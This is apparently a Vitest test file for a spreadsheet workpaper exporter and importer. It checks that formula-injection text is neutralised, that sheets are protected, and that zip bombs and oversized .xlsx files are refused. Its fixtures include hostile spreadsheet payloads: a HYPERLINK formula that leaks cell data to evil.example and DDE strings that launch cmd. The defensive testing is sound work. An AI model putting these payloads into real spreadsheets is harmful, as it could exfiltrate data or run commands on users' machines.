// Workpaper hardening (issue #11 item 15): an oversized or bomb-like .xlsx is refused before exceljs loads it
// (exit 2, naming the file); no cell text of an export can act as a formula, and the quoting round-trips;
// every sheet is protected with only the results, tickmarks and notes of the Sample sheet left editable.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { exportWorkpaper, applyWorkpaper } from '../../electron/engine/workpaper/index';
import { SAMPLE_HEADER_ROW, SHEET, WorkpaperError, readWorkpaperResults } from '../../electron/engine/workpaper/index';
import { WORKBOOK_LIMITS, quoteFormulaText, readBoundedXlsx, unquoteFormulaText } from '../../electron/engine/workpaper/guard';
import { updateItem } from '../../electron/engine/sessions';
import { makeZip } from '../helpers/zip';
import { realSession, type RealSession } from '../helpers/workpaper-session';

const root = path.resolve(__dirname, '../..');
const FORMULA_START = /^[=+\-@\t\r\n]/;

let s: RealSession;
let exported: string;

beforeAll(async () => {
  s = await realSession({ attributes: ['=1+1 MFA', '@SUM(A1)', 'Purpose'] });
  exported = path.join(s.dir, 'exported.xlsx');
  await exportWorkpaper(s.ws, s.sessionId, exported, 'test');
});
afterAll(() => s?.ws.close());

async function load(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

function tickmark(...args: string[]): { code: number; out: string; err: string } {
  const r = spawnSync(process.execPath, [path.join(root, 'bin/tickmark.mjs'), ...args], { encoding: 'utf8' });
  return { code: r.status ?? -1, out: r.stdout, err: r.stderr };
}

describe('formula-like text', () => {
  it('quoteFormulaText and unquoteFormulaText are inverse, and quoted text never starts a formula', () => {
    for (const t of [
      '=HYPERLINK("http://x","y")',
      '+cmd',
      '-2+3',
      '@SUM(A1)',
      '\tTab',
      '\rCR',
      '\nLF',
      "'=already",
      "''",
      "'",
      'plain',
      '',
      '3-2',
      'a=b',
    ]) {
      const q = quoteFormulaText(t);
      expect(FORMULA_START.test(q)).toBe(false);
      expect(unquoteFormulaText(q)).toBe(t);
    }
    expect(quoteFormulaText('plain')).toBe('plain');
    expect(quoteFormulaText('=1+1')).toBe("'=1+1");
  });

  it('no text cell of an export starts like a formula, whoever wrote the text, and the import reads the original back', async () => {
    const view = s.view();
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      "'=quoted by the auditor",
    ];
    view.items.slice(0, attacks.length).forEach((it, i) => updateItem(s.ws, it.id, { notes: attacks[i]!, tickmarks: ['=X', '+Y'] }, 'test'));
    const file = path.join(s.dir, 'attacks.xlsx');
    await exportWorkpaper(s.ws, s.sessionId, file, 'test');
    const wb = await load(file);
    let texts = 0;
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'string') {
            texts++;
            expect(FORMULA_START.test(c.value), `${ws.name}!${c.address} = ${JSON.stringify(c.value)}`).toBe(false);
          }
          expect(c.formula, `${ws.name}!${c.address}`).toBeFalsy();
        }),
      ),
    );
    expect(texts).toBeGreaterThan(100);
    // the attribute headers, notes and tickmarks carry the prefix …
    const sample = wb.getWorksheet(SHEET.sample)!;
    const header = (sample.getRow(SAMPLE_HEADER_ROW).values as unknown[]).map((v) => (typeof v === 'string' ? v : ''));
    expect(header).toContain("'=1+1 MFA");
    expect(header).toContain("'@SUM(A1)");
    // … and the round trip gives back exactly what was written: nothing changed
    const r = await readWorkpaperResults(file, s.view());
    const byPos = new Map(r.items.map((i) => [i.position, i]));
    const first = [...s.view().items].sort((a, b) => a.position - b.position);
    for (const it of first) expect(byPos.get(it.position)!.notes).toBe(it.notes);
    expect(byPos.get(first[0]!.position)!.tickmarks).toEqual(['=X', '+Y']);
    expect(await applyWorkpaper(s.ws, s.sessionId, file, 'test')).toEqual({ resultsChanged: 0, itemsAnnotated: 0 });
  });
});

describe('sheet protection', () => {
  it('protects every sheet; on the Sample sheet only results, tickmarks and notes are unlocked', async () => {
    const wb = await load(exported);
    for (const ws of wb.worksheets)
      expect((ws as unknown as { sheetProtection: { sheet?: boolean } | null }).sheetProtection?.sheet, ws.name).toBe(true);
    const sample = wb.getWorksheet(SHEET.sample)!;
    const header = sample.getRow(SAMPLE_HEADER_ROW);
    const cols = new Map<string, number>();
    header.eachCell((c, n) => cols.set(String(c.value), n));
    const row = sample.getRow(SAMPLE_HEADER_ROW + 1);
    const locked = (name: string): boolean => row.getCell(cols.get(name)!).protection?.locked !== false;
    for (const name of ['Position', 'Seq', 'Stream', 'Timestamp (UTC)', 'Actor id', 'Evidence', 'Item id', 'Row fingerprint']) {
      expect(cols.has(name), name).toBe(true);
      expect(locked(name), name).toBe(true);
    }
    for (const name of ["'=1+1 MFA", "'@SUM(A1)", 'Purpose', 'Tickmarks', 'Notes']) expect(locked(name), name).toBe(false);
    // the header itself is locked, and so is every cell of the other sheets
    expect(header.getCell(cols.get('Notes')!).protection?.locked).not.toBe(false);
    wb.worksheets
      .filter((w) => w.name !== SHEET.sample)
      .forEach((w) => w.eachRow((r) => r.eachCell((c) => expect(c.protection?.locked, `${w.name}!${c.address}`).not.toBe(false))));
  });
});

describe('bounded import', () => {
  const refused = async (file: string, pattern: RegExp): Promise<void> => {
    const e = await readWorkpaperResults(file, s.view()).then(
      () => null,
      (x: unknown) => x,
    );
    expect(e).toBeInstanceOf(WorkpaperError);
    expect((e as WorkpaperError).file).toBe(file);
    expect((e as Error).message.startsWith(`${file}: `)).toBe(true);
    expect((e as Error).message).toMatch(pattern);
  };

  it('refuses a file larger than a workpaper can be, without reading it into exceljs', async () => {
    const big = path.join(s.dir, 'big.xlsx');
    writeFileSync(big, Buffer.alloc(WORKBOOK_LIMITS.fileBytes + 1));
    await refused(big, /more than a workpaper can be/);
  });

  it('refuses a zip bomb: small on disk, inflating past the limit (counted while inflating)', async () => {
    const bomb = path.join(s.dir, 'bomb.xlsx');
    writeFileSync(
      bomb,
      makeZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(WORKBOOK_LIMITS.inflatedBytes + 1024, 0x20), deflate: true }]),
    );
    await refused(bomb, new RegExp(`inflates to more than ${WORKBOOK_LIMITS.inflatedBytes / 1024 / 1024}\\.0 MB`));
  });

  it('refuses an entry whose declared size is a lie (smaller than its data)', async () => {
    const liar = path.join(s.dir, 'liar.xlsx');
    writeFileSync(liar, makeZip([{ name: 'xl/workbook.xml', data: Buffer.alloc(100_000, 0x20), deflate: true, declaredSize: 10 }]));
    await refused(liar, /liar\.xlsx.*(corrupt|unreadable) zip entry xl\/workbook\.xml/s);
  });

  it('refuses too many zip entries', async () => {
    const many = path.join(s.dir, 'many.xlsx');
    writeFileSync(many, makeZip(Array.from({ length: WORKBOOK_LIMITS.entries + 1 }, (_, i) => ({ name: `e${i}.xml`, data: Buffer.from('<a/>') }))));
    await refused(many, /1001 zip entries/);
  });

  it('visits only the rows a workbook holds: one cell at row 1,048,576 does not make a million rows to read', async () => {
    const wb = await load(exported);
    wb.getWorksheet(SHEET.sample)!.getCell(1_048_576, 1).value = 'far away';
    wb.getWorksheet(SHEET.cover)!.getCell(1_048_576, 1).value = 'far away';
    const far = path.join(s.dir, 'far.xlsx');
    await wb.xlsx.writeFile(far);
    const getRow = vi.spyOn(Object.getPrototypeOf(wb.worksheets[0]) as ExcelJS.Worksheet, 'getRow');
    try {
      await refused(far, /Sample row 1048576 has no item id/);
      expect(getRow.mock.calls.length).toBeLessThan(10_000);
    } finally {
      getRow.mockRestore();
    }
  });

  it('passes a real export through unchanged', async () => {
    const bytes = await readBoundedXlsx(exported);
    expect(bytes.length).toBeGreaterThan(1000);
  });

  it('tickmark workpaper --import exits 2 naming the file', () => {
    const bomb = path.join(s.dir, 'bomb.xlsx');
    const r = tickmark('workpaper', path.join(s.dir, 'w.tickmark'), 'CC6.1 access', '--import', bomb);
    expect(r.code).toBe(2);
    expect(r.err).toContain(bomb);
    expect(r.err).toMatch(/inflates to more than/);
  });
});
